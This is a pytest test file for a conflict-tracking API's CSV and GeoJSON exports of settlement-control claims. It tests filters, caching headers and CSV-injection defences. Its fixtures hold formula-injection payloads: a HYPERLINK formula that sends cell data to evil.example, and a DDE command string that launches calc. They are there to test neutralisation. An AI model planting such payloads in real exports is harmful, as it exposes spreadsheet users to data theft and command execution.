"""Exports: claims as CSV and settlements as GeoJSON, by ?format= or Accept:, with the
list's filters, validators for conditional GETs, and cells a spreadsheet can't run."""

import csv
import datetime as dt
import io
import json

import pytest
from rest_framework.test import APIClient

from claims.selectors.exports import CLAIM_HEADER, SETTLEMENT_HEADER
from claims.services import review_add
from claims.vocabulary import ClaimKind, ClaimStatus, ReviewVerdict
from tests.claims.factories import (
    ConflictFactory,
    SettlementFactory,
    UserFactory,
    article_on,
    extract,
    found,
)
from tests.problems import named, problem

pytestmark = pytest.mark.django_db
CLAIMS, SETTLEMENTS = "/api/v1/claims/", "/api/v1/settlements/"


@pytest.fixture
def story():
    conflict = ConflictFactory(russia_ukraine=True)
    toretsk = SettlementFactory(name="Toretsk", latitude=48.39, longitude=37.85, admin1_code="05")
    bamako = SettlementFactory(name="Bamako", country="ML", latitude=12.64, longitude=-8.0029)
    capture, denial = extract(article_on(dt.date(2025, 2, 8)), conflict, [
        found(toretsk, ClaimKind.CAPTURE, "russia", by="russia",
              evidence='=HYPERLINK("http://evil.example/?"&A1,"click") — "Торецьк", взято'),
        found(bamako, ClaimKind.DENIAL, "russia", by="ukraine", claimant_name="@SUM(A1:A9)"),
    ])  # fmt: skip
    desk = UserFactory(username="desk")
    review_add(claim_id=capture.id, reviewer=desk, verdict=ReviewVerdict.CONFIRM,
               at=dt.datetime(2025, 2, 9, tzinfo=dt.UTC))  # fmt: skip
    capture.refresh_from_db()
    return {"toretsk": toretsk, "bamako": bamako, "capture": capture, "denial": denial}


def body_of(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(response) -> list[dict]:
    text = body_of(response)
    licence, rest = text.split("\r\n", 1)
    assert licence.startswith("# ") and "CC BY 4.0" in licence
    return list(csv.DictReader(io.StringIO(rest, newline="")))


def test_claims_as_csv_by_format_and_by_accept_are_the_same(story):
    by_format = APIClient().get(CLAIMS, {"format": "csv"})
    by_accept = APIClient().get(CLAIMS, HTTP_ACCEPT="text/csv")
    assert by_format.status_code == by_accept.status_code == 200
    assert by_format["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in by_format["Content-Disposition"]
    assert body_of(by_format) == body_of(by_accept)


def test_csv_columns_and_values_round_trip(story):
    rows = csv_rows(APIClient().get(CLAIMS, {"format": "csv"}))
    assert list(rows[0]) == CLAIM_HEADER
    capture = next(r for r in rows if r["claim_id"] == str(story["capture"].id))
    assert capture["settlement_name"] == "Toretsk"
    assert capture["review_status"] == ClaimStatus.CONFIRMED
    assert capture["latitude"] == "48.39"
    assert capture["stated_on"] == "2025-02-08"
    assert "«" not in capture["evidence"] and "Торецьк" in capture["evidence"]


def test_formula_cells_are_neutralised_but_negative_numbers_are_not(story):
    rows = {r["settlement_name"]: r for r in csv_rows(APIClient().get(CLAIMS, {"format": "csv"}))}
    assert rows["Toretsk"]["evidence"].startswith("'=HYPERLINK(")
    assert rows["Bamako"]["claimant"] == "'@SUM(A1:A9)"
    assert rows["Bamako"]["longitude"] == "-8.0029"


def test_csv_honours_the_list_filters(story):
    rows = csv_rows(APIClient().get(CLAIMS, {"format": "csv", "status": "confirmed"}))
    assert [r["claim_id"] for r in rows] == [str(story["capture"].id)]


@pytest.mark.parametrize(
    "params",
    [
        {"status": "maybe"},
        {"settlement": "-1"},
        {"settlement": "9" * 400},
        {"conflict": "<script>"},
        {"conflict": "війна"},
        {"colour": "red"},
        {"updated_since": "yesterday"},
    ],
)
def test_a_bad_export_filter_is_a_problem_not_a_csv(story, params):
    response = APIClient().get(CLAIMS, params, HTTP_ACCEPT="text/csv")
    assert response.status_code == 400
    assert named(response) == set(params)


def test_an_unchanged_export_is_304_and_a_review_changes_it(story):
    client = APIClient()
    first = client.get(CLAIMS, {"format": "csv"})
    etag = first["ETag"]
    assert first.has_header("Last-Modified")
    again = client.get(CLAIMS, {"format": "csv"}, HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304
    review_add(claim_id=story["denial"].id, reviewer=UserFactory(username="desk"),
               verdict=ReviewVerdict.CONFIRM)  # fmt: skip
    changed = client.get(CLAIMS, {"format": "csv"}, HTTP_IF_NONE_MATCH=etag)
    assert changed.status_code == 200 and changed["ETag"] != etag


def test_an_export_revalidated_by_its_last_modified_date_alone_is_304(story):
    # Clients and caches that keep only Last-Modified send it back as If-Modified-Since.
    # HTTP dates have whole seconds; the change feed's time has microseconds.
    client = APIClient()
    for params in ({"format": "csv"}, {"format": "geojson"}):
        url = CLAIMS if params["format"] == "csv" else SETTLEMENTS
        first = client.get(url, params)
        again = client.get(url, params, HTTP_IF_MODIFIED_SINCE=first["Last-Modified"])
        assert again.status_code == 304


def test_settlements_as_geojson(story):
    for response in (
        APIClient().get(SETTLEMENTS, {"format": "geojson"}),
        APIClient().get(SETTLEMENTS, HTTP_ACCEPT="application/geo+json"),
    ):
        assert response.status_code == 200
        assert response["Content-Type"] == "application/geo+json; charset=utf-8"
        collection = json.loads(body_of(response))
        assert collection["type"] == "FeatureCollection"
        assert collection["license"]["name"] == "CC BY 4.0"
        features = {f["properties"]["name"]: f for f in collection["features"]}
        toretsk = features["Toretsk"]
        assert toretsk["geometry"] == {"type": "Point", "coordinates": [37.85, 48.39]}
        assert toretsk["properties"]["state"] == "controlled"
        assert toretsk["properties"]["side"] == "russia"
        assert features["Bamako"]["properties"]["state"] == "unknown"


def test_geojson_as_of_a_day_before_the_review_knows_no_controller(story):
    response = APIClient().get(SETTLEMENTS, {"format": "geojson", "as_of": "2025-02-08"})
    features = {f["properties"]["name"]: f for f in json.loads(body_of(response))["features"]}
    assert features["Toretsk"]["properties"]["state"] == "unknown"


def test_geojson_honours_the_list_filters(story):
    response = APIClient().get(SETTLEMENTS, {"format": "geojson", "country": "ml"})
    names = [f["properties"]["name"] for f in json.loads(body_of(response))["features"]]
    assert names == ["Bamako"]


def test_the_json_settlement_list_takes_as_of_too(story):
    body = APIClient().get(SETTLEMENTS, {"as_of": "2025-02-08"}).json()
    states = {s["name"]: s["status"]["state"] for s in body["results"]}
    assert states["Toretsk"] == "unknown"
    now = {s["name"]: s["status"]["state"] for s in APIClient().get(SETTLEMENTS).json()["results"]}
    assert now["Toretsk"] == "controlled"


def test_a_format_nobody_serves_is_a_406_problem(story):
    response = APIClient().get(SETTLEMENTS, HTTP_ACCEPT="application/vnd.ms-excel")
    assert response.status_code == 406
    assert problem(response)["code"] == "not_acceptable"


def test_json_lists_and_status_answer_304_when_unchanged(story):
    client = APIClient()
    for url in (CLAIMS, SETTLEMENTS, f"{SETTLEMENTS}{story['toretsk'].id}/status/"):
        first = client.get(url)
        assert first.status_code == 200 and first.has_header("ETag")
        assert client.get(url, HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304


def test_lists_take_updated_since_oldest_change_first(story):
    since = story["capture"].updated_at.isoformat()
    body = APIClient().get(CLAIMS, {"updated_since": since}).json()
    assert [c["id"] for c in body["results"]] == [story["capture"].id]
    later = (story["capture"].updated_at + dt.timedelta(seconds=1)).isoformat()
    assert APIClient().get(CLAIMS, {"updated_since": later}).json()["results"] == []


def test_pages_carry_a_link_header(story):
    response = APIClient().get(CLAIMS, {"page_size": 1})
    assert 'rel="next"' in response["Link"]
    second = APIClient().get(CLAIMS, {"page_size": 1, "page": 2})
    assert 'rel="prev"' in second["Link"]


# Settlements as CSV, and the settlements page's filters on the list and both exports.


def settlement_csv(params: dict) -> dict[str, dict]:
    response = APIClient().get(SETTLEMENTS, {"format": "csv", **params})
    assert response.status_code == 200, response.content
    assert response["Content-Disposition"] == 'attachment; filename="conflictwatch-settlements.csv"'
    return {row["name"]: row for row in csv_rows(response)}


def test_settlements_as_csv_by_format_and_by_accept(story):
    by_accept = APIClient().get(SETTLEMENTS, HTTP_ACCEPT="text/csv")
    assert by_accept["Content-Type"] == "text/csv; charset=utf-8"
    assert body_of(by_accept) == body_of(APIClient().get(SETTLEMENTS, {"format": "csv"}))
    rows = settlement_csv({})
    assert list(rows["Toretsk"]) == SETTLEMENT_HEADER
    toretsk = rows["Toretsk"]
    assert (toretsk["state"], toretsk["side"], toretsk["since"]) == (
        "controlled", "russia", "2025-02-08",
    )  # fmt: skip
    assert (toretsk["latitude"], toretsk["longitude"]) == ("48.39", "37.85")
    assert toretsk["settlement_id"] == str(story["toretsk"].id)
    assert rows["Bamako"]["longitude"] == "-8.0029"
    assert rows["Bamako"]["flags"] == ""


def test_settlement_csv_as_of_a_day_and_without_coordinates(story):
    SettlementFactory(name="Нью-Йорк", latitude=None, longitude=None)
    assert settlement_csv({"as_of": "2025-02-08"})["Toretsk"]["state"] == "unknown"
    rows = settlement_csv({"q": "нью"})
    assert rows["Нью-Йорк"]["latitude"] == "" and rows["Нью-Йорк"]["state"] == "unknown"


def test_settlement_names_a_spreadsheet_would_run_are_defused(story):
    SettlementFactory(name="=cmd|' /C calc'!A0", region="+Donetsk")
    rows = settlement_csv({"q": "=cmd"})
    (row,) = rows.values()
    assert row["name"] == "'=cmd|' /C calc'!A0" and row["region"] == "'+Donetsk"


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"state": "controlled"}, ["Toretsk"]),
        ({"state": "unknown"}, ["Bamako"]),
        ({"side": "russia"}, ["Toretsk"]),
        ({"side": "atlantis"}, []),
        ({"disputed": "true"}, []),
        ({"disputed": "false"}, ["Bamako", "Toretsk"]),
        ({"region": "donetsk"}, ["Bamako", "Toretsk"]),
        ({"region": "Харків"}, []),
        ({"changed_since": "2000-01-01"}, ["Bamako", "Toretsk"]),
        ({"changed_since": "2999-01-01"}, []),
        ({"country": "ML", "state": "unknown", "conflict": "russia-ukraine"}, ["Bamako"]),
    ],
)
def test_the_pages_filters_narrow_the_list_and_both_exports(story, params, expected):
    assert sorted(settlement_csv(params)) == expected
    geojson = json.loads(body_of(APIClient().get(SETTLEMENTS, {"format": "geojson", **params})))
    assert sorted(f["properties"]["name"] for f in geojson["features"]) == expected
    listed = APIClient().get(SETTLEMENTS, params).json()["results"]
    assert sorted(s["name"] for s in listed) == expected


@pytest.mark.parametrize(
    "params",
    [
        {"state": "conquered"},
        {"state": ""},
        {"disputed": "maybe"},
        {"disputed": "1"},
        {"side": "<script>"},
        {"side": "росія"},
        {"region": "x" * 201},
        {"region": "Don\x00etsk"},
        {"changed_since": "вчора"},
        {"changed_since": "2025-02-30"},
        {"sort": "name"},
    ],
)
def test_a_bad_settlement_filter_is_a_problem_in_every_format(story, params):
    for extra in ({}, {"format": "csv"}, {"format": "geojson"}):
        response = APIClient().get(SETTLEMENTS, {**params, **extra})
        assert response.status_code == 400
        assert named(response) == set(params)


def test_postgresqls_copy_writes_the_same_bytes_as_pythons_csv(story):
    """The claims CSV is written by COPY on PostgreSQL and by Python's csv elsewhere (the
    demo): cell for cell the same file, awkward cells included."""
    from django.db import connection

    from claims.api.exports import csv_chunks
    from claims.selectors.exports import claim_export_csv_copy, claim_export_rows

    if connection.vendor != "postgresql":
        pytest.skip("COPY is PostgreSQL's")
    whole = SettlementFactory(name="Siversk", latitude=47.0, longitude=-8.0, region="")
    extract(article_on(dt.date(2025, 2, 10)), story["capture"].conflict, [
        found(whole, ClaimKind.ADVANCE, "russia", by="russia", claimant_name="",
              evidence='Line one,\nline "two"\r\n\tand a tab; ""; «Сіверськ»'),
    ])  # fmt: skip
    by_python = "".join(csv_chunks(claim_export_rows())).encode()
    by_copy = "".join(csv_chunks([])).encode() + b"".join(claim_export_csv_copy())
    assert by_copy == by_python
    assert b'"Line one,\nline ""two""\r\n\tand a tab; """"; ' in by_copy
    assert b",47.0,-8.0," in by_copy
    only_confirmed = b"".join(claim_export_csv_copy(status=ClaimStatus.CONFIRMED))
    assert only_confirmed.count(b"\r\n") == 1
